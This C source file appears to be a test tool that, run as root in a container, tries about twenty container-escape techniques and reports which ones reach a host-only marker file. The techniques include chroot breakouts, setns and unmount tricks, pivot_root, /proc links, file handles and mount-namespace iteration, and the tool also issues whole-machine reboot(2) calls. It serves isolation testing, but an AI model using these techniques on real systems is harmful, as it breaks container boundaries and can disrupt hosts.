/* SPDX-License-Identifier: 0BSD */
/*
 * Run inside a container as root: tries to get out, and to do what a container must not. MARK is a
 * file that only the host has.
 *   escape MARK [HANDLE]  each way that finds MARK is printed, then how many there were
 *   escape handle MARK    prints MARK's HANDLE, to be told inside
 *   escape table MARK     on a host whose root is an initramfs: each known sequence that makes a tree the
 *                         root there, and which ways lead out of it
 *   escape reboot         the calls of reboot(2) that are for the whole machine
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* of newer headers; numbers of calls from 424 on are the same everywhere, plus 4000 on 32-bit MIPS */
#if defined(__mips__) && _MIPS_SIM == _ABIO32
#define NEW_CALL 4000
#else
#define NEW_CALL 0
#endif
enum { OPEN_TREE = NEW_CALL + 428, MOVE_MOUNT = NEW_CALL + 429, FSPICK = NEW_CALL + 433, MOUNT_SETATTR = NEW_CALL + 442 };
enum { CLONE_IT = 1, ALL_BELOW = 0x8000, FROM_EMPTY = 4 };
#define GET_USERNS   _IO(0xb7, 0x1)
#define GET_PARENT   _IO(0xb7, 0x2)
struct mntns_info { uint32_t size, n; uint64_t id; };
#define NEXT_MNTNS   _IOR(0xb7, 11, struct mntns_info)
#define BEFORE_MNTNS _IOR(0xb7, 12, struct mntns_info)

static const char *mark, *told_handle;
static int in_table;

static int
seen(void)
{
	return access(mark, F_OK) == 0 || access(mark + 1, F_OK) == 0;
}

static void
climb(void)
{
	int i;

	for (i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
}

/* the old trick: a working directory above the root */
static int
by_chroot(void)
{
	mkdir("/tmp/below", 0755);
	if (chroot("/tmp/below") < 0)
		return 0;
	climb();
	return chroot(".") == 0 && seen();
}

static int
by_fd(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/below", 0755);
	if (fd < 0 || chroot("/tmp/below") < 0 || fchdir(fd) < 0)
		return 0;
	climb();
	return chroot(".") == 0 && seen();
}

/* what is below the mount that is / */
static int
by_umount(void)
{
	int i, found = 0;

	for (i = 0; i < 8 && !found; i++) {
		if (umount2("/", MNT_DETACH) < 0)
			break;
		found = seen() || (chdir("/") == 0 && seen());
	}
	return found || by_chroot();
}

static int
by_umount_dot(void)
{
	return chdir("/") == 0 && umount2(".", MNT_DETACH) == 0 && (seen() || (chdir("..") == 0 && seen()));
}

/* setns makes the bottom of the mount namespace the root */
static int
by_setns(void)
{
	int fd = open("/proc/self/ns/mnt", O_RDONLY);

	return fd >= 0 && setns(fd, CLONE_NEWNS) == 0 && (seen() || (chdir("/") == 0 && seen()));
}

static int
by_umount_and_setns(void)
{
	int fd = open("/proc/self/ns/mnt", O_RDONLY);

	umount2("/", MNT_DETACH);
	return fd >= 0 && setns(fd, CLONE_NEWNS) == 0 && (seen() || (chdir("/") == 0 && seen()));
}

static int
by_new_namespace(void)
{
	return unshare(CLONE_NEWNS) == 0 && (by_umount_and_setns() || by_umount() || by_setns());
}

static int
by_pivot(void)
{
	mkdir("/tmp/new", 0755);
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL) < 0
	    || mount("/tmp/new", "/tmp/new", NULL, MS_BIND, NULL) < 0 || chdir("/tmp/new") < 0
	    || syscall(SYS_pivot_root, ".", ".") < 0)
		return 0;
	/* what was / is on top; below it would be what was there before */
	return umount2(".", MNT_DETACH) == 0 && (seen() || (chdir("/") == 0 && seen()));
}

/* links of /proc that lead to other processes' roots and files */
static int
by_proc(void)
{
	char path[512];
	int i;

	for (i = 1; i < 64; i++) {
		snprintf(path, sizeof(path), "/proc/%d/root%s", i, mark);
		if (access(path, F_OK) == 0)
			return 1;
		snprintf(path, sizeof(path), "/proc/%d/cwd%s", i, mark);
		if (access(path, F_OK) == 0)
			return 1;
		snprintf(path, sizeof(path), "/proc/self/fd/%d/..%s", i, mark);
		if (access(path, F_OK) == 0)
			return 1;
	}
	return 0;
}

/* the way for a root that cannot be pivoted */
static int
by_move(void)
{
	mkdir("/tmp/move", 0755);
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL) < 0
	    || mount("tmpfs", "/tmp/move", "tmpfs", 0, NULL) < 0 || chdir("/tmp/move") < 0
	    || mount(".", "/", NULL, MS_MOVE, NULL) < 0 || chroot(".") < 0)
		return 0;
	climb();
	return seen() || (umount2("/", MNT_DETACH) == 0 && seen());
}

/* what was left open: directories of ours, or of who started us */
static int
by_old_fds(void)
{
	int fd, found = 0;

	for (fd = 0; fd < 256 && !found; fd++)
		if (fchdir(fd) == 0) {
			found = seen();
			climb();
			found |= seen();
		}
	return found;
}

/* of other processes: their mount namespaces, by every fd that leads to one */
static int
by_namespaces_of_others(void)
{
	static const char *const files[] = { "ns/mnt", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "fd/9", "fd/10" };
	char path[64];
	size_t k;
	int i, fd;

	for (i = 1; i < 64; i++)
		for (k = 0; k < sizeof(files) / sizeof(*files); k++) {
			snprintf(path, sizeof(path), "/proc/%d/%s", i, files[k]);
			fd = open(path, O_RDONLY | O_NONBLOCK);
			if (fd >= 0 && setns(fd, CLONE_NEWNS) == 0 && (seen() || (chdir("/") == 0 && seen())))
				return 1;
			if (fd >= 0)
				close(fd);
		}
	return 0;
}

/* a copy of what is above, and of what is there once / is gone */
static int
by_open_tree(void)
{
	static const char *const from[] = { "..", "/..", "/", "/proc/1/root", "/proc/1/cwd", "/proc/self/root/.." };
	size_t i;
	int fd;

	for (i = 0; i < sizeof(from) / sizeof(*from); i++) {
		fd = (int)syscall(OPEN_TREE, AT_FDCWD, from[i], CLONE_IT | ALL_BELOW);
		if (fd < 0)
			fd = (int)syscall(OPEN_TREE, AT_FDCWD, from[i], CLONE_IT);
		if (fd >= 0 && fchdir(fd) == 0) {
			climb();
			if (seen())
				return 1;
			mkdir("/tmp/copy", 0755);
			if (syscall(MOVE_MOUNT, fd, "", AT_FDCWD, "/tmp/copy", FROM_EMPTY) == 0 && chdir("/tmp/copy") == 0) {
				umount2("/tmp/copy", MNT_DETACH);
				climb();
				if (seen())
					return 1;
			}
		}
	}
	return 0;
}

/* / itself is moved away */
static int
moved(int (*how)(void))
{
	int fd;

	mkdir("/tmp/away", 0755);
	if (mount("away", "/tmp/away", "tmpfs", 0, NULL) < 0 || how() < 0)
		return 0;
	fd = open("/proc/self/ns/mnt", O_RDONLY);
	climb();
	return seen() || (chroot(".") == 0 && seen()) || (fd >= 0 && setns(fd, CLONE_NEWNS) == 0 && seen());
}

static int
move_old(void)
{
	return mount("/", "/tmp/away", NULL, MS_MOVE, NULL);
}

static int
move_new(void)
{
	return (int)syscall(MOVE_MOUNT, AT_FDCWD, "/", AT_FDCWD, "/tmp/away", 0);
}

static int
by_moving_root(void)
{
	return moved(move_old) || moved(move_new);
}

/* / with less on it, or / as a part of itself */
static int
by_bind(void)
{
	mkdir("/tmp/bound", 0755);
	if (mount("/", "/tmp/bound", NULL, MS_BIND, NULL) < 0 && mount("/", "/tmp/bound", NULL, MS_BIND | MS_REC, NULL) < 0)
		return 0;
	if (chdir("/tmp/bound/..") == 0) {
		climb();
		if (seen())
			return 1;
	}
	if (chdir("/tmp/bound") < 0 || syscall(SYS_pivot_root, ".", ".") < 0)
		return 0;
	if (umount2(".", MNT_DETACH) == 0 && seen())
		return 1;
	return (chdir("/") == 0 && seen()) || by_umount_and_setns();
}

/* in users of its own, and in those that the mount namespace belongs to */
static int
by_new_users(void)
{
	return unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && (by_umount_and_setns() || by_umount());
}

static int
by_owner(void)
{
	int fd = open("/proc/self/ns/mnt", O_RDONLY), users = fd < 0 ? -1 : ioctl(fd, GET_USERNS);

	if (users < 0 || setns(users, CLONE_NEWUSER) < 0)
		return 0;
	return by_umount_and_setns() || (unshare(CLONE_NEWNS) == 0 && by_umount());
}

/* a mount namespace that was copied, its mounts unlocked or its root made another */
static int
by_copy(void)
{
	struct { uint64_t set, clear, propagation, users; } shared = { 0, 0, MS_SHARED, 0 };

	if (unshare(CLONE_NEWNS) < 0)
		return 0;
	syscall(MOUNT_SETATTR, AT_FDCWD, "/", ALL_BELOW, &shared, sizeof(shared));
	mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL);
	if (unshare(CLONE_NEWNS) < 0)
		return 0;
	umount2("/proc", MNT_DETACH);
	umount2("/tmp", MNT_DETACH);
	mkdir("/tmp", 0755);
	return by_umount() || by_umount_dot() || by_moving_root();
}

/* what file system that was mounted at boot: anew, or by what is there */
static int
by_file_system(void)
{
	int fd = (int)syscall(FSPICK, AT_FDCWD, "/..", 0);

	mkdir("/tmp/fs", 0755);
	if (fd >= 0 && fchdir(fd) == 0 && seen())
		return 1;
	return mount("rootfs", "/tmp/fs", "rootfs", 0, NULL) == 0 && chdir("/tmp/fs") == 0 && seen();
}

/* the host's file by its handle, which needs a file system that has it */
static int
by_handle(void)
{
	struct { struct file_handle h; unsigned char bytes[MAX_HANDLE_SZ]; } u;
	const char *at = told_handle;
	unsigned int byte, type;
	int fd, dir;

	memset(&u, 0, sizeof(u));
	if (!at || sscanf(at, "%u:", &type) != 1 || !(at = strchr(at, ':')))
		return 0;
	u.h.handle_type = (int)type;
	for (at++; u.h.handle_bytes < MAX_HANDLE_SZ && sscanf(at, "%2x", &byte) == 1; at += 2)
		u.h.f_handle[u.h.handle_bytes++] = (unsigned char)byte;
	dir = open("/", O_RDONLY | O_DIRECTORY);
	fd = dir < 0 ? -1 : open_by_handle_at(dir, &u.h, O_RDONLY);
	return fd >= 0;
}

/* who is root of all may go from one mount namespace to the next: 6.12 */
static int
by_next_namespace(void)
{
	static const int how[] = { (int)NEXT_MNTNS, (int)BEFORE_MNTNS };
	struct mntns_info info;
	int i, k, fd, next;

	for (i = 0; i < 2; i++) {
		fd = open("/proc/self/ns/mnt", O_RDONLY);
		for (k = 0; fd >= 0 && k < 64; k++) {
			memset(&info, 0, sizeof(info));
			info.size = sizeof(info);
			next = ioctl(fd, how[i], &info);
			if (next < 0)
				break;
			if (setns(next, CLONE_NEWNS) == 0 && (seen() || (chdir("/") == 0 && seen())))
				return 1;
			close(fd);
			fd = next;
		}
	}
	return 0;
}

static const struct { const char *name; int (*fn)(void); } ways[] = {
	{ "chroot and a directory above it", by_chroot }, { "chroot and an open directory", by_fd },
	/* once / is unmounted it is so for those that follow, and /proc with it */
	{ "entering its own mount namespace", by_setns }, { "unmounting / and entering", by_umount_and_setns },
	{ "unmounting /", by_umount }, { "unmounting .", by_umount_dot },
	{ "a new mount namespace", by_new_namespace }, { "pivot_root", by_pivot }, { "/proc", by_proc },
	{ "moving a mount over /", by_move }, { "directories left open", by_old_fds },
	{ "others' mount namespaces", by_namespaces_of_others }, { "open_tree", by_open_tree },
	{ "moving / away", by_moving_root }, { "a bind of /", by_bind }, { "users of its own", by_new_users },
	{ "the users that own the mounts", by_owner }, { "a copy of the mounts", by_copy },
	{ "the file system of boot", by_file_system }, { "a file's handle", by_handle },
	{ "the next mount namespace", by_next_namespace },
};

/* 0: it stays in; 1: it finds the mark; 2: it stands in what lay below the host's root */
static int
try_way(size_t i)
{
	int out = ways[i].fn();

	return out ? 1 : in_table && ways[i].fn == by_umount_and_setns && access("/inside", F_OK) < 0 ? 2 : 0;
}

static int
print_handle(const char *path)
{
	struct { struct file_handle h; unsigned char bytes[MAX_HANDLE_SZ]; } u;
	unsigned int i;
	int id;

	u.h.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, &u.h, &id, 0) < 0) {
		perror(path);
		return 1;
	}
	printf("%d:", u.h.handle_type);
	for (i = 0; i < u.h.handle_bytes; i++)
		printf("%02x", u.h.f_handle[i]);
	printf("\n");
	return 0;
}

/* ---- the table ------------------------------------------------------------------------------------ */

static void
detach_others(void)
{
	static const char *const mounts[] = { "/dev/pts", "/dev/shm", "/dev", "/sys/fs/cgroup", "/sys", "/proc", "/run" };
	size_t i;

	for (i = 0; i < sizeof(mounts) / sizeof(*mounts); i++)
		umount2(mounts[i], MNT_DETACH);
}

static int
move_it(void)
{
	return chdir("/mnt/new") < 0 || mount(".", "/", NULL, MS_MOVE, NULL) < 0 || chroot(".") < 0 || chdir("/") < 0 ? -1 : 0;
}

static int
pivot_it(void)
{
	return chdir("/mnt/new") < 0 || syscall(SYS_pivot_root, ".", ".") < 0 || umount2(".", MNT_DETACH) < 0
	    || chdir("/") < 0 ? -1 : 0;
}

static int
detach_and_move(void)
{
	detach_others();
	return move_it();
}

/* / is bound on a place, which is made the root: it has a parent then */
static int
stage(int moved_up)
{
	mkdir("/mnt/stage", 0755);
	if (mount("/", "/mnt/stage", NULL, MS_BIND | MS_REC, NULL) < 0 || chdir("/mnt/stage") < 0
	    || (moved_up && mount(".", "/", NULL, MS_MOVE, NULL) < 0) || chroot(".") < 0 || chdir("/") < 0)
		return -1;
	return pivot_it();
}

static int
stage_and_pivot(void)
{
	return stage(0);
}

static int
stage_moved_and_pivot(void)
{
	return stage(1);
}

static int
move_in_users(void)
{
	return detach_and_move() < 0 || unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 ? -1 : 0;
}

/* the mounts of a helper that has users of its own are locked for everybody */
static int
move_and_lock(void)
{
	int ready[2], hold[2], fd, ret = -1;
	char path[40], c;
	pid_t pid;

	if (detach_and_move() < 0 || pipe(ready) < 0 || pipe(hold) < 0 || (pid = fork()) < 0)
		return -1;
	if (pid == 0) {
		close(hold[1]);
		c = unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0;
		if (write(ready[1], &c, 1) == 1 && read(hold[0], &c, 1) < 0)
			_exit(1);
		_exit(0);
	}
	snprintf(path, sizeof(path), "/proc/%d/ns/mnt", (int)pid);
	if (read(ready[0], &c, 1) == 1 && c && (fd = open(path, O_RDONLY)) >= 0) {
		ret = setns(fd, CLONE_NEWNS);
		close(fd);
	}
	close(hold[1]);
	close(ready[0]);
	close(ready[1]);
	close(hold[0]);
	while (waitpid(pid, NULL, 0) < 0 && errno == EINTR)
		;
	return ret < 0 ? -1 : chdir("/");
}

static const struct { const char *name; int (*fn)(void); } rows[] = {
	{ "A", pivot_it }, { "B", move_it }, { "B2", detach_and_move }, { "C", stage_and_pivot },
	{ "D", stage_moved_and_pivot }, { "users", move_in_users }, { "E", move_and_lock },
};

/* a new mount namespace in which a tmpfs waits at /mnt/new to become the root */
static int
begin_row(void)
{
	mkdir("/mnt", 0755);
	mkdir("/mnt/new", 0755);
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_SLAVE | MS_REC, NULL) < 0
	    || mount("new", "/mnt/new", "tmpfs", 0, NULL) < 0 || mkdir("/mnt/new/proc", 0755) < 0
	    || mkdir("/mnt/new/tmp", 0755) < 0 || mkdir("/mnt/new/mnt", 0755) < 0 || mkdir("/mnt/new/inside", 0755) < 0
	    || mount("proc", "/mnt/new/proc", "proc", 0, NULL) < 0)
		return -1;
	return 0;
}

/* in a pid namespace of its own, so that /proc does not show who is outside */
static int
row_and_way(size_t row, size_t way)
{
	int status;
	pid_t pid;

	if (unshare(CLONE_NEWPID) < 0)
		return 99;
	pid = fork();
	if (pid == 0) {
		if (begin_row() < 0)
			_exit(99);
		if (rows[row].fn() < 0)
			_exit(98);
		_exit(way < sizeof(ways) / sizeof(*ways) ? try_way(way) : 0);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return 99;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 97;
}

static int
print_table(void)
{
	const size_t n = sizeof(ways) / sizeof(*ways);
	size_t row, way;
	int status;
	pid_t pid;

	in_table = 1;
	for (row = 0; row < sizeof(rows) / sizeof(*rows); row++) {
		printf("%s:", rows[row].name);
		for (way = n; way <= n; way = way == n ? 0 : way + 1 < n ? way + 1 : n + 1) {
			fflush(stdout);
			pid = fork();
			if (pid == 0)
				_exit(row_and_way(row, way));
			if (pid < 0 || waitpid(pid, &status, 0) < 0)
				return 98;
			status = WIFEXITED(status) ? WEXITSTATUS(status) : 96;
			if (way == n && status) {
				printf(status == 98 ? " does not start" : " (%d)", status);
				break;
			}
			if (way == n)
				printf(" starts");
			else if (status == 1)
				printf("; host by %s", ways[way].name);
			else if (status == 2)
				printf("; nothing by %s", ways[way].name);
			else if (status)
				printf("; (%d) by %s", status, ways[way].name);
		}
		printf("\n");
	}
	return 0;
}

static int
try_reboot(void)
{
	static const struct { const char *name; int how; } calls[] = {
		{ "RB_ENABLE_CAD", RB_ENABLE_CAD }, { "RB_DISABLE_CAD", RB_DISABLE_CAD },
		{ "RB_KEXEC", RB_KEXEC }, { "RB_SW_SUSPEND", RB_SW_SUSPEND },
	};
	size_t i;
	int done = 0;

	for (i = 0; i < sizeof(calls) / sizeof(*calls); i++)
		if (reboot(calls[i].how) == 0) {
			printf("allowed: %s\n", calls[i].name);
			done++;
		}
	printf("%d allowed\n", done);
	return 0;
}

int
main(int argc, char **argv)
{
	int status, found = 0;
	size_t i;
	pid_t pid;

	if (argc < 2)
		return 99;
	if (strcmp(argv[1], "reboot") == 0)
		return try_reboot();
	if (argc > 2 && strcmp(argv[1], "handle") == 0)
		return print_handle(argv[2]);
	if (argc > 2 && strcmp(argv[1], "table") == 0) {
		mark = argv[2];
		return print_table();
	}
	mark = argv[1];
	told_handle = argv[2];
	for (i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
		pid = fork();
		if (pid == 0)
			_exit(try_way(i));
		if (pid < 0 || waitpid(pid, &status, 0) < 0)
			return 98;
		if (!WIFEXITED(status) || WEXITSTATUS(status)) {
			printf("out by %s (%d)\n", ways[i].name, status);
			found++;
		}
	}
	printf("%d ways out of %zu\n", found, i);
	return 0;
}
